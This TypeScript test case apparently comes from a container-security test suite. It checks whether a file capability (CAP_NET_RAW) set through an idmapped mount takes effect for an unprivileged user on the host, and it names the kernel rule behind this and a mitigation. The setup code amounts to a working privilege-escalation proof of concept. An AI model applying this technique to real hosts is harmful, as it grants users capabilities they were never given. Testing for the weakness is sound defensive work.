import {attack, byDesign, kubernetes} from '../define.ts';
import {idmappedMount} from '../idmapped-mount.ts';
import {chmod, fileCapability, run, setxattr, umount} from '../operation.ts';
import {perlProgram} from '../programs.ts';

const CAP_NET_RAW = 13;
const script = 'socket(my $s, 2, 3, 1) or exit 1; exit 0';

/** The same of file capabilities. */
export const idmappedVolumeFilecapDrop = byDesign(
  {
    id: 'idmapped-volume-filecap-drop',
    title: 'a file capability on a volume with shifted ids counts on the host',
    group: 8,
    gain: 'a capability for a user of the host who runs it under its path on the host',
    attempt:
      'setxattr(2) of security.capability through a mount with shifted ids; a user of the host runs it under the path on the disk',
    expected: {'treatment-all': 'that user has the capability', 'treatment-default': 'that user has the capability'},
    rule: 'security/commoncap.c cap_convert_nscap(): through the mount the root of the namespace is uid 0 of the disk, and the capability is stored without a root of its own',
    references: [attack('T1548.001'), kubernetes('KEP-127')],
    insteadUse: "nosuid where the host mounts the volume's disk, or a 0700 folder of root above it",
  },
  {
    arms: ['treatment-all', 'treatment-default'],
    prepare: async (place) => {
      place.dir('disk', {mode: 0o777});
      place.dir('mount');
      await place.asHost(...idmappedMount(place.scene.pod.init.pid, place.path('disk'), place.path('mount')));
    },
    calls: (place) => [
      run('/bin/cp', perlProgram(), place.path('mount/tool')),
      chmod(place.path('mount/tool'), 0o755),
      setxattr(place.path('mount/tool'), 'security.capability', fileCapability(CAP_NET_RAW)),
    ],
    effect: async (place, seen) => {
      if (!seen.through) return false;
      const user = await place.actor({capabilities: 'none', uid: 65_534});
      const end = await user.run([run(place.path('disk/tool'), '-e', script)]);
      return end.calls[0]?.result === 0;
    },
    undo: (place) => place.scene.tidy(umount(place.path('mount'))),
  },
);
